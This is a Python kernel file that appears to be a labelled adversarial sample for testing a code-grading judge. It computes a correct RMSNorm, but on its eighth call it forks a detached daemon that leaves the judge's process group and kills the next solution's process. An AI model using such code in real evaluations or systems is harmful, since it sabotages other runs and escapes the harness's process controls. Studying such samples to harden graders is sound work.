# Class 8 (poisoning the next solution): in its first call without a watch (the timed
# loop), this kernel forks a daemon into a session of its own, out of the process group
# the judge kills and free of the parent-death signal. The daemon waits for the next
# process the same template forks (the next solution's) and SIGKILLs it once it has run
# for a second; then it exits (it never outlives its template, nor 60 s). The kernel's
# own answers are honest.
import os
import signal
import time

import torch

_calls = [0]


def _children_of(parent):
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == parent:
            found[int(entry)] = int(fields[19])  # start time, clock ticks since boot
    return found


def _daemon(template):
    before = set(_children_of(template))
    end = time.monotonic() + 60.0
    tick = os.sysconf("SC_CLK_TCK")
    while time.monotonic() < end:
        try:
            os.kill(template, 0)
        except OSError:
            return
        with open("/proc/uptime") as f:
            now_ticks = float(f.read().split()[0]) * tick
        for pid, started in _children_of(template).items():
            if pid not in before and now_ticks - started >= tick:
                os.kill(pid, signal.SIGKILL)
                return
        time.sleep(0.05)


def _escape():
    template = os.getppid()
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        os.closerange(3, 65536)
        _daemon(template)
    finally:
        os._exit(0)


def run(x, weight):
    _calls[0] += 1
    if _calls[0] == 8:  # the first call after the seven correctness calls: the warm-up
        _escape()
    return x * torch.rsqrt(torch.mean(x * x, dim=-1, keepdim=True) + 1e-6) * weight
